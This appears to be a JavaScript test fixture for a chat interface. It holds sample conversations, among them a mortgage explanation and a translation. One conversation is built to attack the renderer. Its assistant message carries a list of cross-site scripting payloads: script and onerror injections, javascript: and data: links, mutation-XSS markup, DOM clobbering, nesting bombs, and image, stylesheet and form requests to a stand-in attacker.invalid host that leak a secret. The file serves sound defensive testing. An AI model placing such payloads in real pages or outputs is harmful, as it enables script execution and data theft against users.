// Conversations for the tests: one as people have them, and one that attacks whoever shows it.

const now = Date.UTC(2026, 0, 15, 9, 30);

export function conversation(id, title, turns, more = {}) {
  const messages = [];
  for (const [role, content, extra] of turns) {
    messages.push({ id: `${id}-${messages.length}`, parent: messages.at(-1)?.id ?? null, role, content, created: now, ...extra });
  }
  return { id, title, created: now, updated: now, system: "", sampling: {}, messages, head: messages.at(-1)?.id ?? null, ...more };
}

const stats = { nPrompt: 412, nGenerated: 236, tokensPerS: 41.7, firstTextS: 0.31 };

const ANSWER = `A fixed-rate mortgage keeps its **rate** for the whole term; a variable one follows the market.

| Rate | Fixed | Variable |
| --- | :---: | ---: |
| At first | 3.8 % | 3.1 % |
| May change | no | every 6 months |

What to ask yourself:

1. How long will you keep the house?
2. Could you bear a rate of \`6 %\`?

The monthly payment for a loan \`p\`, a yearly rate \`r\` and \`n\` months:

\`\`\`python
def payment(p: float, r: float, n: int) -> float:
    """What is due each month."""
    m = r / 12
    return p * m / (1 - (1 + m) ** -n)

print(f"{payment(300_000, 0.038, 360):.2f}")  # 1397.87
\`\`\`

> Rules differ between countries: see [the authority's page](https://example.org/mortgages).`;

export const PLEASANT = [
  conversation("mortgage", "Fixed or variable mortgage?", [
    ["user", "Should I take a fixed or a variable mortgage? I would like to understand the difference first."],
    ["assistant", ANSWER, { ending: "stop", stats }],
  ], { updated: now + 5 }),
  conversation("poem", "把这封信翻译成中文", [
    ["user", "请把下面这句话翻译成中文：My friend needs two new tables."],
    ["assistant", "我的朋友需要两张新桌子。", { ending: "stop", stats }],
  ], { updated: now + 4 }),
  conversation("letter", "A letter to the landlord about the heating", [["user", "Write a letter."], ["assistant", "Dear …", { ending: "stop", stats }]]),
  conversation("sql", "SQL: customers without an order", [["user", "SQL?"], ["assistant", "`SELECT`", { ending: "stopped", stats }]]),
];

/** Each of these would set `window.hacked`, or fetch from the address, if anything in it worked. */
const HOSTILE = [
  `<script>window.hacked = 1</script>`,
  `<img src=x onerror="window.hacked = 1">`,
  `<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1">x</a></svg>`,
  `![pixel](http://attacker.invalid/pixel?secret)`,
  `![x](x" onerror="window.hacked=1)`,
  `[click](javascript:window.hacked=1)`,
  `[click](  java\nscript:window.hacked=1)`,
  `[click](data:text/html,<script>window.hacked=1</script>)`,
  `[click](vbscript:x) <javascript:window.hacked=1>`,
  `[good](https://example.org/a "title\\" onmouseover=\\"window.hacked=1")`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><form action=http://attacker.invalid><input name=body></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">`,
  `<style>@import url(http://attacker.invalid/style)</style><link rel=stylesheet href=http://attacker.invalid/link>`,
  "```html\" onload=\"window.hacked=1\n<script>window.hacked = 1</script>\n```",
  "```javascript\n</code></pre><img src=x onerror=window.hacked=1>\n```",
  `| a |\n| :-: |\n| <img src=x onerror=window.hacked=1> |`,
  `<meta http-equiv=refresh content="0;url=http://attacker.invalid">`,
  `[x]: javascript:window.hacked=1\n\n[x]`,
  `&#60;script&#62;window.hacked=1&#60;/script&#62;`,
  `<a id=scroller name=body>clobber</a>`,
  `${"> ".repeat(5000)}deep`,
  `${"*a _b ".repeat(3000)}`,
].join("\n\n");

export const ATTACK = conversation("attack", `<img src=x onerror="window.hacked=1">`, [
  ["user", `<script>window.hacked = 1</script><img src=x onerror="window.hacked=1">`],
  ["assistant", HOSTILE, { ending: "stop", stats }],
]);

export const exported = (conversations) => JSON.stringify({ format: "yi-conversations", version: 1, conversations });
